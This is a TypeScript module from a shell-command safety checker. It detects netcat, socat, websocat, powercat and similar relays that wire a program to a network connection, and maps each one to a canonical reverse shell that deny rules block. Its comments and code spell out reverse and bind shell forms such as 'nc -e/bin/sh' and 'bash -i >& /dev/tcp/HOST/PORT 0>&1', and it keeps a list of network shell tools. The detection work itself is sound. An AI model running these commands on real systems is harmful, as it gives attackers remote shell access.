// Programs that wire a program's standard streams to a network connection: a shell run this way
// is a reverse shell (connecting out) or a bind shell (listening). Each relay is read from its
// own options, in any spelling (`nc -e/bin/sh`, `nc -nlvpe sh 4444`, `--sh-exec=sh`,
// `socat Exec:bash TCP:h:p`, `websocat ws://h sh-c:bash`), and reads as the canonical reverse
// shell `bash -i >& /dev/tcp/HOST/PORT 0>&1`, which the reverse-shell rules deny.
//
// Sources: each tool's manual: netcat (traditional -e/-c), ncat (-e/--exec, -c/--sh-exec,
// --lua-exec), socat (EXEC:/SYSTEM: addresses; address keywords are case-insensitive), websocat
// (exec:, cmd:, sh-c: specifiers), rcat (connect/listen -s/--sh), pwncat (cytopia: -e/--exec;
// pwncat-cs: a listener and handler for reverse shells), gsocket gs-netcat (-i interactive shell,
// -e CMD), powercat (-e/-ep), sbd and cryptcat (-e), dbd (-e).
import { basename } from '../shell-wrappers.js';
import type { Effect } from './types.js';
import type { LineView as LineFacts } from './line-view.js';
import type { SimpleCommand } from './walk.js';

/** netcat-family programs and the options that attach a program to the connection. */
const NETCATS = new Set(['nc', 'netcat', 'ncat', 'nc.traditional', 'nc.openbsd', 'cryptcat', 'sbd', 'dbd', 'pwncat']);
const NC_EXEC_SHORT = /^-[A-Za-z0-9]*[ec]/;
const NC_EXEC_LONG = /^--(?:exec|sh-exec|lua-exec|exec-cmd)(?:=|$)/;
/** Options of netcat-family programs that take a value (the value is not an operand). */
const NC_VALUED = /^-(?:[A-Za-z]*[pswiqWTXxIOGgmM])$/;

/** The relays the reading knows, for the line gate. */
export const RELAY_PROGRAMS: readonly string[] = [
  ...NETCATS,
  'busybox',
  'toybox',
  'socat',
  'websocat',
  'rcat',
  'pwncat-cs',
  'pwncat-vl',
  'gs-netcat',
  'powercat',
];
/** Text that names a relay where no program list can see it (inside PowerShell code). */
export const RELAY_HINT = /powercat|\b(?:nc|ncat|netcat|socat)(?:64)?\.exe\b/i;

interface Peer {
  host: string;
  port: string;
}

function shellOver(peer: Peer, via: string): Effect {
  const host = peer.host.includes(':') && !peer.host.startsWith('[') ? `[${peer.host}]` : peer.host;
  return { tool: 'exec', command: `bash -i >& /dev/tcp/${host}/${peer.port || '4444'} 0>&1`, via };
}

/** Host and port among a netcat's operands (listeners have only a port). */
function ncPeer(argv: string[]): Peer {
  const ops: string[] = [];
  let port = '';
  for (let i = 1; i < argv.length; i++) {
    const w = argv[i] ?? '';
    if (w.startsWith('--')) {
      if (!w.includes('=') && /^--(?:exec|sh-exec|lua-exec|source|proxy|wait|output)$/.test(w)) i++;
      continue;
    }
    if (w.startsWith('-') && w.length > 1) {
      // -p 4444 / -lvnp 4444: the port of a listener
      if (/p$/.test(w) && /^\d+$/.test(argv[i + 1] ?? '')) port = argv[++i] ?? '';
      else if (/[ec]$/.test(w) || NC_VALUED.test(w)) i++;
      continue;
    }
    ops.push(w);
  }
  const host = ops.find((o) => !/^\d+$/.test(o)) ?? '0.0.0.0';
  return { host, port: port || (ops.find((o) => /^\d+$/.test(o)) ?? '') };
}

function netcatShell(argv: string[]): boolean {
  return argv.slice(1).some((w) => NC_EXEC_LONG.test(w) || (NC_EXEC_SHORT.test(w) && !w.startsWith('--')));
}

const SOCAT_RUN = /^(?:exec|system)[:,]/i;
const SOCAT_NET =
  /^(?:tcp[46]?|udp[46]?|sctp[46]?|ssl|openssl|dtls|tcp[46]?-(?:connect|listen|l)|udp[46]?-(?:connect|listen|l|sendto|recv)|openssl-(?:connect|listen)|ssl-l|socks[45]a?|proxy|vsock-(?:connect|listen))[:-]/i;

function socatPeer(addr: string): Peer {
  // TCP:h:p, TCP4-CONNECT:h:p,opts, TCP-LISTEN:p,fork, OPENSSL:h:p
  const body = addr.replace(/^[^:]+:/, '').split(',')[0] ?? '';
  const listen = /listen|-l:/i.test(addr.split(':')[0] ?? '') || /^ssl-l:/i.test(addr);
  if (listen) return { host: '0.0.0.0', port: body };
  const i = body.lastIndexOf(':');
  return i > 0 ? { host: body.slice(0, i), port: body.slice(i + 1) } : { host: body, port: '' };
}

const WEBSOCAT_RUN = /^(?:exec|cmd|sh-c):/i;
const WS_URL = /^(?:wss?|tcp|tcp-l|ws-l|ws-listen|l-ws|tcp-listen):(?:\/\/)?([^/:\s]+|\[[^\]]+\])?(?::(\d+))?/i;

function websocatPeer(argv: string[]): Peer {
  for (const w of argv.slice(1)) {
    const m = WS_URL.exec(w);
    if (m)
      return /-l|listen/i.test(w.split(':')[0] ?? '')
        ? { host: '0.0.0.0', port: m[2] ?? '' }
        : { host: m[1] ?? '0.0.0.0', port: m[2] ?? '' };
  }
  return { host: '0.0.0.0', port: '' };
}

function operandPeer(argv: string[]): Peer {
  const ops = argv.slice(1).filter((w) => !w.startsWith('-'));
  const hp = ops.find((o) => /^[\w.-]+:\d+$/.test(o));
  if (hp) {
    const i = hp.lastIndexOf(':');
    return { host: hp.slice(0, i), port: hp.slice(i + 1) };
  }
  const port = [...ops].reverse().find((o) => /^\d{1,5}$/.test(o)) ?? '';
  const host = ops.find((o) => /^(?:\d{1,3}\.){3}\d{1,3}$|^[\w-]+(?:\.[\w-]+)+$/.test(o)) ?? '0.0.0.0';
  return { host, port };
}

/** The program a word runs, on any platform: C:\\Tools\\nc64.exe and /usr/bin/nc are nc. */
function programOf(word: string): string {
  const base = basename(word).toLowerCase();
  const win = base.slice(base.lastIndexOf('\\') + 1).replace(/\.exe$/, '');
  return win === 'nc64' || win === 'ncat64' ? win.slice(0, -2) : win;
}

function relayEffect(c: SimpleCommand): Effect | undefined {
  let argv = c.argv;
  let name = programOf(argv[0] ?? '');
  if ((name === 'busybox' || name === 'toybox') && argv.length > 1) {
    argv = argv.slice(1);
    name = programOf(argv[0] ?? '');
  }
  if (NETCATS.has(name)) {
    if (!netcatShell(argv)) return undefined;
    const peer = ncPeer(argv);
    return shellOver(peer, `${name} hands a program's streams to ${peer.host}:${peer.port || '?'}`);
  }
  if (name === 'socat') {
    const addrs = argv.slice(1).filter((w) => !w.startsWith('-') || w === '-');
    const run = addrs.find((a) => SOCAT_RUN.test(a));
    const net = addrs.find((a) => SOCAT_NET.test(a));
    if (!run || !net) return undefined;
    const peer = socatPeer(net);
    return shellOver(peer, `socat joins ${run.split(/[:,]/)[0] ?? 'exec'} to ${peer.host}:${peer.port || '?'}`);
  }
  if (name === 'websocat') {
    if (!argv.slice(1).some((w) => WEBSOCAT_RUN.test(w) || w === '--exec' || w.startsWith('--exec='))) return undefined;
    const peer = websocatPeer(argv);
    return shellOver(peer, `websocat runs a program over ${peer.host}:${peer.port || '?'}`);
  }
  if (name === 'rcat') {
    if (!argv.slice(1).some((w) => /^(?:-s|--sh|-e|--exec)(?:=|$)|^-[a-z]*s$/.test(w))) return undefined;
    const peer = operandPeer(argv);
    return shellOver(peer, `rcat serves a shell over ${peer.host}:${peer.port || '?'}`);
  }
  if (name === 'gs-netcat') {
    if (!argv.slice(1).some((w) => /^-[A-Za-z]*[ie]/.test(w) && !w.startsWith('--'))) return undefined;
    return shellOver({ host: 'gs.thc.org', port: '443' }, 'gs-netcat serves a shell through the gsocket relay');
  }
  if (name === 'pwncat-cs' || name === 'pwncat-vl') {
    // a handler that receives and drives reverse shells: any use but its help
    if (argv.slice(1).some((w) => /^(?:-h|--help|--version|-v)$/.test(w))) return undefined;
    const peer = operandPeer(argv);
    return shellOver(peer, `${name} drives a reverse shell with ${peer.host}:${peer.port || '?'}`);
  }
  return undefined;
}

/** powercat -c HOST -p PORT -e cmd (also -ep), in PowerShell code anywhere in the line. */
function powercatEffects(text: string, out: Effect[]): void {
  for (const m of text.matchAll(/\bpowercat\b([^;|\n'"]*)/gi)) {
    const args = m[1] ?? '';
    if (!/\s-(?:e|ep)\b/i.test(args)) continue;
    const host = /\s-c\s+(\S+)/i.exec(args)?.[1] ?? '0.0.0.0';
    const port = /\s-p\s+(\d+)/i.exec(args)?.[1] ?? '';
    out.push(shellOver({ host, port }, `powercat hands a program to ${host}:${port || '?'}`));
  }
}

/**
 * `C:\\Users\\Public\\nc64.exe H P -e cmd.exe` inside cmd /c or PowerShell: Windows paths lose
 * their backslashes to the POSIX reader, so the words after the program are read from the text.
 */
function windowsNetcats(text: string, out: Effect[]): void {
  for (const m of text.matchAll(/\b(nc|ncat|netcat)(?:64)?\.exe\b([^"'|;&\n]*)/gi)) {
    const argv = [(m[1] ?? 'nc').toLowerCase(), ...(m[2] ?? '').trim().split(/\s+/).filter(Boolean)];
    if (!netcatShell(argv)) continue;
    const peer = ncPeer(argv);
    out.push(shellOver(peer, `${m[1] ?? 'nc'}.exe hands a program's streams to ${peer.host}:${peer.port || '?'}`));
  }
}

export function relayEffects(line: LineFacts, out: Effect[]): void {
  for (const c of line.cmds) {
    const e = relayEffect(c);
    if (e) out.push(e);
  }
  if (RELAY_HINT.test(line.text)) {
    powercatEffects(line.text, out);
    windowsNetcats(line.text, out);
  }
}
